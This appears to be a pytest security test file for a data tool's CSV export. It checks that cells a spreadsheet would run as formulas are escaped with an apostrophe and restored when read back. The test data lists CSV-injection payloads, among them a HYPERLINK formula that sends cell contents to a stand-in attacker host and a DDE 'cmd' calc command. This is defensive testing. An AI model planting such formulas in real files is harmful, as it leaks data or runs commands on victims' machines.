"""Cells that a spreadsheet would run: neutralised where asked for, exact elsewhere, and undone when read back."""

import csv
import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pyarrow as pa
import pytest
import streamlit

from rollmill.dashboards.session.export_matches import write_matches
from rollmill.storage.queries.browse.spreadsheets import as_it_was, as_text
from rollmill.storage.workspace import Workspace
from tests.flows.conftest import ROOT, Run, rollmill  # noqa: F401 (a fixture)

pytestmark = pytest.mark.security

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", " =1", "\uff1d1", "'=1", "''@x", "= 1",
]  # fmt: skip
HARMLESS = ["", "'", "1 + 1", "a=b", "'quoted'", "x\n=1"]


def first_signs(path: Path) -> set[str]:
    """The first characters, other than white space, of all cells."""
    with path.open(newline="", encoding="utf-8") as stream:
        return {cell.strip()[:1] for row in csv.reader(stream) for cell in row}


@pytest.mark.parametrize("cell", FORMULAS + HARMLESS)
def test_a_cell_is_what_it_was_after_both_ways(cell: str) -> None:
    assert as_it_was(as_text(cell)) == cell
    assert as_text(cell) == (cell if cell in HARMLESS else "'" + cell)


def test_matches_of_a_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Workspace.init(tmp_path / "ws").close()
    monkeypatch.setenv("ROLLMILL_WORKSPACE", str(tmp_path / "ws"))
    schema = pa.schema({"text": pa.string(), "number": pa.int64(), "turns": pa.list_(pa.string())})

    @contextmanager
    def rows() -> Iterator[pa.RecordBatchReader]:
        columns = [FORMULAS + HARMLESS[1:], [-1] * (len(FORMULAS) + 5), [["=1"]] * (len(FORMULAS) + 5)]
        batch = pa.record_batch([pa.array(one, kind) for one, kind in zip(columns, schema.types, strict=True)], schema)
        yield pa.RecordBatchReader.from_batches(schema, [batch])

    exact = write_matches("exact.csv", rows).path
    with exact.open(newline="", encoding="utf-8") as stream:
        assert [row["text"] for row in csv.DictReader(stream)] == FORMULAS + HARMLESS[1:]
    safe = write_matches("safe.csv", rows, spreadsheet=True).path
    assert first_signs(safe) & set("=+@\uff1d") == set()
    with safe.open(newline="", encoding="utf-8") as stream:
        read = list(csv.DictReader(stream))
    assert [as_it_was(row["text"]) for row in read] == FORMULAS + HARMLESS[1:]
    assert {row["number"] for row in read} == {"-1"}  # a number is one, and no formula


def test_a_review_s_sheet_and_its_way_back(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    rollmill: Run,  # noqa: F811
) -> None:
    Workspace.init(tmp_path / "ws").close()
    monkeypatch.chdir(tmp_path / "ws")
    problems = [{"id": str(n), "prompt": f"{formula} {n}", "reference": "5"} for n, formula in enumerate(FORMULAS)]
    answers = [{"problem_id": str(n), "text": f"{formula}\n#### 5", "model": "m"} for n, formula in enumerate(FORMULAS)]
    Path("p.jsonl").write_text("".join(json.dumps(row) + "\n" for row in problems))
    Path("a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in answers))
    Path("told.yaml").write_text(
        "recipe_schema: 1\nname: told\nproblems: {imported: sums}\ngenerate: {engine: imported}\nverify: [{method: math}]\n"
        "budget: {method: fixed}\nselect: {method: all_correct}\ngate: {min_kept: 1, max_undecided: 1.0}\n"
    )
    for command in (
        "import problems p.jsonl --name sums",
        "import rollouts a.jsonl --name answers --problems sums",
        "curate told.yaml --direct",
        "audit verifier math --n 12",
    ):
        done = rollmill(*command.split())
        assert done.status == 0, done.err
    assert "formula" not in rollmill("review", "--export", "exact.csv").out
    said = rollmill("review", "--export", "safe.csv", "--for-spreadsheet").out
    assert "Cells that a spreadsheet would run as formulas begin with an apostrophe." in said
    assert first_signs(Path("exact.csv")) & set("=+-@")
    assert first_signs(Path("safe.csv")) & set("=+-@\uff1d") == set()
    with Path("safe.csv").open(newline="") as stream:
        sheet = list(csv.DictReader(stream))
    for row in sheet:
        row["judgement"], row["note"] = "correct", as_text("=what I wrote")
    with Path("done.csv").open("w", newline="") as stream:
        writer = csv.DictWriter(stream, sheet[0])
        writer.writeheader()
        writer.writerows(sheet)
    assert rollmill("review", "--from", "done.csv", "--judge", "ann").status == 0
    rollmill("review", "--judge", "ann", "--export", "again.csv")
    with Path("again.csv").open(newline="") as stream, Path("exact.csv").open(newline="") as before:
        again = list(csv.DictReader(stream))
        assert {row["note"] for row in again} == {"=what I wrote"}
        assert [row["prompt"] for row in again] == [row["prompt"] for row in csv.DictReader(before)]
    refused = rollmill("review", "--for-spreadsheet")
    assert "--for-spreadsheet is of --export" in refused.err


def test_tables_of_the_pages_have_no_download_by_streamlit_which_keeps_formulas() -> None:
    """Its button is found by its label, which is looked for in Streamlit's own pages."""
    label = "Download as CSV"
    assert f'button[aria-label^="{label}"]) {{ display: none; }}' in (ROOT / "dashboards/server/look.css").read_text()
    parts = Path(streamlit.__file__).parent / "static/static/js"
    assert any(f"label:`{label}`" in part.read_text() for part in parts.glob("DataFrame*.js"))
    assert any('"data-testid":`stElementToolbarButton`' in part.read_text() for part in parts.glob("Toolbar*.js"))
